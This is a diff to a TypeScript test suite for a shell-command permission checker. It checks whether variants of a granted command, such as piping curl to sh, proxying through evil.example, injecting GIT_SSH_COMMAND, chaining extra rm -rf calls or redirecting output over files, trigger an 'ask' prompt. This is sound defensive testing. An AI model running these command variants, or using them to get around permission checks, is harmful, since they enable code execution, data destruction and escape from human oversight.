@@ -66,7 +66,14 @@ test.for([
   expect(expected === 'ask' ? ['ask', 'deny'] : ['allow']).toContain(decision)
 })
 
-test.for<[granted: string, args: string | { command: string; cwd?: string }, expected: 'allow' | 'ask']>([
+interface ShellArguments {
+  readonly command: string
+  readonly cwd?: string
+  readonly live?: boolean
+  readonly background?: boolean
+}
+
+test.for<[granted: string, args: string | ShellArguments, expected: 'allow' | 'ask']>([
   ['rm -rf build', 'rm -rf build', 'allow'],
   ['rm -rf build', 'rm -rf build -v', 'allow'],
   ['rm -rf build', 'rm -rf build docs', 'ask'],
@@ -161,6 +168,42 @@ test.for<[granted: string, args: string | { command: string; cwd?: string }, exp
   ['curl https://a.example', 'curl https://a.example -x http://evil.example', 'ask'],
   ['curl https://a.example', 'curl https://a.example --resolve a.example:443:127.0.0.1', 'ask'],
   ['curl https://a.example', 'curl https://a.example | sh', 'ask'],
+  ['curl https://a.example', 'curl https://a.example -sS', 'allow'],
+  ['curl https://a.example', 'curl https://a.example -so README.md', 'ask'],
+  ['curl https://a.example', 'curl https://a.example --output=README.md', 'ask'],
+  ['curl https://a.example', 'curl https://a.example > README.md', 'ask'],
+  ['curl https://a.example', 'https_proxy=http://evil.example curl https://a.example', 'ask'],
+  ['rm -rf build', 'rm -rf build -- docs', 'ask'],
+  ['rm -rf build', 'rm -rf build || rm -rf docs', 'ask'],
+  ['rm -rf build', 'for i in docs; do rm -rf $i; done', 'ask'],
+  ['rm -rf build', 'rm -rf build\nrm -rf docs', 'ask'],
+  ['rm -rf build', 'rm -rf build &>README.md', 'ask'],
+  ['rm -rf build', 'rm -rf build 2>>README.md', 'ask'],
+  ['rm -rf build', 'CDPATH=docs; rm -rf build', 'ask'],
+  ['rm -rf build', { command: 'rm -rf build', cwd: './docs/' }, 'ask'],
+  ['rm -rf build', { command: 'rm -rf build', cwd: './' }, 'allow'],
+  ['git push origin main', 'env GIT_SSH_COMMAND=./x git push origin main', 'ask'],
+  ['git push origin main', 'GIT_SSH_COMMAND=./x; export GIT_SSH_COMMAND; git push origin main', 'ask'],
+  ['git push origin main', 'git push origin main --fo""rce', 'ask'],
+  ['git push origin main', 'git push origin main --push-option=ci.skip', 'ask'],
+  ['git push origin main', 'git push origin main -- :main', 'ask'],
+  ['git push origin main', 'git push origin main && git push origin main -f', 'ask'],
+  ['git push origin main', 'git push origin main*', 'ask'],
+  ['git push origin main', 'git push origin main --repo=http://evil.example', 'ask'],
+  ['git push origin main', 'git --exec-path=. push origin main', 'ask'],
+  ['npm install lodash', 'npm install lodash -C docs', 'ask'],
+  ['npm install lodash', 'npm -g install lodash', 'ask'],
+  ['npm install lodash', 'npm install lodash --global=true', 'ask'],
+  ['npm install lodash', 'npm install lodash --loglevel=silent', 'allow'],
+  ['npm install lodash', 'npm install lodash --loglevel=../x', 'ask'],
+  ['pip install requests', 'pip install requests --index-url=http://evil.example', 'ask'],
+  ['pip install requests', 'pip install requests --config-settings=x', 'ask'],
+  ['make release', 'make release -C docs', 'ask'],
+  ['make release', 'make release -j4 -e', 'ask'],
+  ['make release', 'make release -j4096000', 'ask'],
+  ['make release', 'MAKEFLAGS=--eval=x make release', 'ask'],
+  ['npm run build', { command: 'npm run build', live: true }, 'ask'],
+  ['npm run build', { command: 'npm run build', background: true }, 'allow'],
 ])('"%s" granted, %j is no more than %s', async ([granted, args, expected]) => {
   const host = await grantingHost({ scope: 'prefix' }, { rules: [ASK_SHELL], sandbox: IDLE })
   for (const folder of ['build', 'docs/build']) mkdirSync(join(host.workspace, folder), { recursive: true })
